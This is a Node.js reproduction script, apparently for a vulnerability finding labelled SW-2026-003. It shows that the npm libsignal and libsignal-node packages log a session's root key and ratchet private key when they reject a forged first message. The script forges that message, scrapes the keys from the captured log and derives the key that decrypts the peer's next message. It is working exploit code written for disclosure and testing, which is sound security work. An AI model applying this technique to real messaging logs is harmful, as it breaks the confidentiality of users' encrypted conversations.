// SW-2026-003: what a reader of the victim's log can do with the keys that npm
// `libsignal` 6.x / `libsignal-node` 2.x log for a rejected, forged first
// message. Shows end to end that the logged root key and ratchet private key
// decrypt the peer's next message, which the victim still reads through its
// unchanged session (copy-returning store, as Baileys has).
//
//   node conformance/findings/repro_sw_2026_003_log_keys.js libsignal-wa|libsignal-node
//
// (after that adapter's run.sh has installed its packages). Prints one line
// and exits 0 when the peer's next message was decrypted from the log alone.
'use strict';
const path = require('node:path');
const util = require('node:util');
const { createRequire } = require('node:module');

const which = process.argv[2];
const pkg = { 'libsignal-wa': 'libsignal', 'libsignal-node': 'libsignal-node' }[which];
if (!pkg) {
  process.stderr.write('usage: repro_sw_2026_003_log_keys.js libsignal-wa|libsignal-node\n');
  process.exit(2);
}
let log = '';
for (const m of ['log', 'info', 'warn', 'error', 'debug']) console[m] = (...a) => { log += util.format(...a) + '\n'; };
const req = createRequire(path.join(__dirname, '..', 'adapters', which, 'package.json'));
const lib = req(pkg);
const crypto = req(`${pkg}/src/crypto.js`);
const curve = req(`${pkg}/src/curve.js`);
const { WhisperMessage, PreKeyWhisperMessage } = req(`${pkg}/src/protobufs.js`);

class Store {
  constructor() {
    this.identity = lib.keyhelper.generateIdentityKeyPair();
    this.registrationId = lib.keyhelper.generateRegistrationId();
    this.signed = lib.keyhelper.generateSignedPreKey(this.identity, 1);
    this.records = new Map();
  }
  async loadSession(a) { const r = this.records.get(a); return r && lib.SessionRecord.deserialize(JSON.parse(r)); }
  async storeSession(a, rec) { this.records.set(a, JSON.stringify(rec.serialize())); }
  async isTrustedIdentity() { return true; }
  async getOurIdentity() { return this.identity; }
  async getOurRegistrationId() { return this.registrationId; }
  async loadPreKey() { return undefined; }
  async loadSignedPreKey(id) { return id === 1 ? this.signed.keyPair : undefined; }
  async removePreKey() {}
}

async function main() {
  const A = new lib.ProtocolAddress('alice', 1);
  const B = new lib.ProtocolAddress('bob', 1);
  const alice = new Store();
  const bob = new Store();
  await new lib.SessionBuilder(alice, B).initOutgoing({
    identityKey: bob.identity.pubKey,
    registrationId: bob.registrationId,
    signedPreKey: { keyId: 1, publicKey: bob.signed.keyPair.pubKey, signature: bob.signed.signature },
  });
  const aToB = new lib.SessionCipher(alice, B);
  const bToA = new lib.SessionCipher(bob, A);
  await bToA.decryptPreKeyWhisperMessage((await aToB.encrypt(Buffer.from('hello'))).body);
  await aToB.decryptWhisperMessage((await bToA.encrypt(Buffer.from('hi'))).body);

  // The attacker: a forged first message from public values only.
  const forged = Buffer.concat([Buffer.from([0x33]), Buffer.from(PreKeyWhisperMessage.encode({
    baseKey: curve.generateKeyPair().pubKey, identityKey: alice.identity.pubKey, registrationId: 1,
    signedPreKeyId: 1, message: Buffer.concat([Buffer.from([0x33]), Buffer.alloc(60, 7)]),
  }).finish())]);
  log = '';
  let rejected = false;
  try { await bToA.decryptPreKeyWhisperMessage(forged); } catch { rejected = true; }

  // The log reader: the "Closing session:" block of Bob's open session.
  const block = log.slice(log.indexOf('Closing session:'));
  const buf = (name) => {
    const m = block.match(new RegExp(`${name}: <Buffer ([0-9a-f ]+)>`));
    return m && Buffer.from(m[1].replace(/ /g, ''), 'hex');
  };
  const rootKey = buf('rootKey');
  const privKey = buf('privKey');

  // Alice's next message (a new turn: new ratchet key in its clear header).
  const next = (await aToB.encrypt(Buffer.from('the next turn'))).body;
  const header = WhisperMessage.decode(next.subarray(1, next.length - 8));
  let fromLog = null;
  if (rootKey && privKey) {
    const shared = curve.calculateAgreement(header.ephemeralKey, privKey);
    const chainKey = crypto.deriveSecrets(shared, rootKey, Buffer.from('WhisperRatchet'), 2)[1];
    let ck = chainKey;
    for (let i = 0; i < header.counter; i++) ck = crypto.calculateMAC(ck, Buffer.from([2]));
    const mk = crypto.calculateMAC(ck, Buffer.from([1]));
    const keys = crypto.deriveSecrets(mk, Buffer.alloc(32), Buffer.from('WhisperMessageKeys'));
    try { fromLog = crypto.decrypt(keys[0], header.ciphertext, keys[2].slice(0, 16)).toString(); } catch { fromLog = null; }
  }
  const victim = (await bToA.decryptWhisperMessage(next)).toString();
  const ok = rejected && fromLog === 'the next turn' && victim === 'the next turn';
  process.stdout.write(`${ok ? 'reproduced' : 'not reproduced'}: ${pkg}: forged first message rejected ${rejected}; ` +
    `root key and ratchet private key in the log ${Boolean(rootKey && privKey)}; peer's next message decrypted from the log: ` +
    `${JSON.stringify(fromLog)}; victim decrypted it too: ${JSON.stringify(victim)}\n`);
  process.exit(ok ? 0 : 1);
}
main().catch((e) => { process.stderr.write(`${e.stack}\n`); process.exit(2); });
